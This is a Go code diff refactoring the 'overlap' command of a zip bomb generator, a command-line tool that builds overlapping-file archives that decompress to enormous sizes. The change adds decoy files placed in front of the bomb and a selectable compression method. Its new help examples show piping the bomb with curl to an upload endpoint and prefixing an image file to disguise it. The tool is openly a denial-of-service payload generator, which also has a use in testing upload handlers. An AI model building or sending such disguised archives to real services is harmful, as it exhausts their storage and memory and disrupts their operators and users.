@@ -1,28 +1,24 @@
 package cmd
 
 import (
-	"archive/zip"
-	"bytes"
 	"fmt"
-	"io"
 	"os"
 	"time"
 
-	"github.com/hupe1980/zipbomb/pkg/filename"
 	"github.com/hupe1980/zipbomb/pkg/zipbomb"
 	"github.com/spf13/cobra"
 	"github.com/vbauerster/mpb/v8"
-	"github.com/vbauerster/mpb/v8/decor"
 )
 
 type overlapOptions struct {
 	numFiles         int
-	alphabet         string
-	extension        string
+	filenames        filenameOptions
+	archive          archiveOptions
 	verify           bool
-	kernelBytes      []byte
-	kernelRepeats    int
+	decoys           []string
+	kernel           kernelOptions
 	compressionLevel int
+	method           string
 	extraTag         uint16
 }
 
@@ -33,41 +29,58 @@ func newOverlapCmd(rootOpts *rootOptions) *cobra.Command {
 		Short: "Create non-recursive overlap zipbomb",
 		Long:  "Create non-recursive zipbomb that achieves a high compression ratio by overlapping files inside the zip container",
 		Example: `- zipbomb overlap -N 2000 --extra-tag 0x9999 --verify
-- zipbomb overlap -N 2000 -R 200000000`,
+- zipbomb overlap -N 2000 -R 200000000
+- zipbomb overlap -N 2000 -o - | curl --data-binary @- http://localhost:8080/upload
+- zipbomb overlap -N 2000 --prefix-file image.png -o image.png.zip`,
 		SilenceUsage:  true,
 		SilenceErrors: true,
 		RunE: func(cmd *cobra.Command, args []string) error {
+			method, err := zipbomb.ParseMethod(opts.method)
+			if err != nil {
+				return err
+			}
+
+			filenameGen, err := opts.filenames.generator(cmd.Flags(), opts.numFiles)
+			if err != nil {
+				return err
+			}
+
+			archiveOpts, err := opts.archive.options()
+			if err != nil {
+				return err
+			}
+
+			kb, err := opts.kernel.kernel()
+			if err != nil {
+				return err
+			}
+
 			creatingStart := time.Now()
 
 			p := mpb.New(mpb.ContainerOptional(mpb.WithOutput(os.Stderr), true))
 
-			archive, err := os.Create(rootOpts.output)
+			archive, err := createOutput(rootOpts.output, opts.verify)
 			if err != nil {
 				return err
 			}
 
 			defer archive.Close()
 
-			name := fmt.Sprintf("[i] Creating %s", archive.Name())
-			bar := p.AddBar(int64(opts.numFiles),
-				mpb.PrependDecorators(
-					decor.Name(name, decor.WC{W: len(name) + 1, C: decor.DidentRight}),
-					decor.OnComplete(decor.AverageETA(decor.ET_STYLE_GO, decor.WC{W: 4}), "done"),
-				),
-				mpb.AppendDecorators(decor.Percentage()),
-			)
+			bar := newProgressBar(p, fmt.Sprintf("[i] Creating %s", archive.Name()), int64(opts.numFiles))
 
-			zbomb, err := zipbomb.New(archive)
+			zbomb, err := zipbomb.New(archive, archiveOpts)
 			if err != nil {
 				return err
 			}
 
-			kb := bytes.Repeat(opts.kernelBytes, opts.kernelRepeats)
+			if err = addDecoys(zbomb, opts.decoys); err != nil {
+				return err
+			}
 
 			if err = zbomb.AddEscapedOverlap(kb, opts.numFiles, func(o *zipbomb.OverlapOptions) {
-				o.FilenameGen = filename.NewDefaultGenerator([]byte(opts.alphabet), opts.extension)
+				o.FilenameGen = filenameGen
 				o.CompressionLevel = opts.compressionLevel
-				o.Method = zipbomb.Deflate
+				o.Method = method
 				o.ExtraTag = opts.extraTag
 				o.OnFileCreateHook = func(name string) {
 					bar.Increment()
@@ -84,70 +97,27 @@ func newOverlapCmd(rootOpts *rootOptions) *cobra.Command {
 
 			creatingEnd := time.Now()
 
-			if err = printStats(archive.Name(), creatingEnd.Sub(creatingStart), zbomb); err != nil {
-				return err
-			}
+			rep := newReport(cmd, archive.Name(), creatingEnd.Sub(creatingStart), zbomb.Report())
 
 			if opts.verify {
-				verifyingStart := time.Now()
-
-				p := mpb.New(mpb.ContainerOptional(mpb.WithOutput(os.Stderr), true))
-
-				r, err := zip.OpenReader(archive.Name())
-				if err != nil {
+				if err = verifyArchive(rep, archive.Path(), false); err != nil {
 					return err
 				}
-
-				name := fmt.Sprintf("[i] Verifying %s", archive.Name())
-				bar := p.AddBar(int64(len(r.File)),
-					mpb.PrependDecorators(
-						decor.Name(name, decor.WC{W: len(name) + 1, C: decor.DidentRight}),
-						decor.OnComplete(decor.AverageETA(decor.ET_STYLE_GO, decor.WC{W: 4}), "done"),
-					),
-					mpb.AppendDecorators(decor.Percentage()),
-				)
-
-				for _, file := range r.File {
-					fr, err := file.Open()
-					if err != nil {
-						return err
-					}
-
-					for {
-						_, err := io.CopyN(io.Discard, fr, 1024)
-						if err != nil {
-							if err == io.EOF {
-								break
-							}
-							return err
-						}
-					}
-
-					fr.Close()
-
-					bar.Increment()
-				}
-
-				p.Wait()
-
-				verifyingEnd := time.Now()
-
-				emptyLine()
-				printInfof("Zip bomb verified!")
-				printInfof("Verifying time elapsed: %s\n", verifyingEnd.Sub(verifyingStart))
 			}
 
-			return nil
+			return printReport(rootOpts, rep)
 		},
 	}
 
 	cmd.Flags().IntVarP(&opts.numFiles, "num-files", "N", 100, "number of files")
-	cmd.Flags().StringVarP(&opts.alphabet, "alphabet", "", string(filename.DefaultAlphabet), "alphabet for generating filenames")
-	cmd.Flags().StringVarP(&opts.alphabet, "extension", "", "", "extension for generating filenames")
+	opts.filenames.addFlags(cmd.Flags())
+	opts.archive.addFlags(cmd.Flags())
+
 	cmd.Flags().BoolVarP(&opts.verify, "verify", "", false, "verify zip archive")
-	cmd.Flags().BytesHexVarP(&opts.kernelBytes, "kernel-bytes", "B", []byte{'B'}, "kernel bytes")
-	cmd.Flags().IntVarP(&opts.kernelRepeats, "kernel-repeats", "R", 1024*1024, "kernel repeats")
-	cmd.Flags().IntVarP(&opts.compressionLevel, "compression-level", "L", 5, "compression-level [-2, 9]")
+	cmd.Flags().StringSliceVarP(&opts.decoys, "decoy", "", nil, "ordinary file added in front of the bomb")
+	opts.kernel.addFlags(cmd.Flags(), []byte{'B'}, 1024*1024)
+	cmd.Flags().IntVarP(&opts.compressionLevel, "compression-level", "L", 5, "compression-level [-2, 9], ignored for repeated --kernel-bytes unless 0 or -2")
+	cmd.Flags().StringVarP(&opts.method, "method", "M", "deflate", "compression method (deflate|bzip2|store)")
 	cmd.Flags().Uint16VarP(&opts.extraTag, "extra-tag", "", 0, "extra tag to activate extra-field escaping")
 
 	return cmd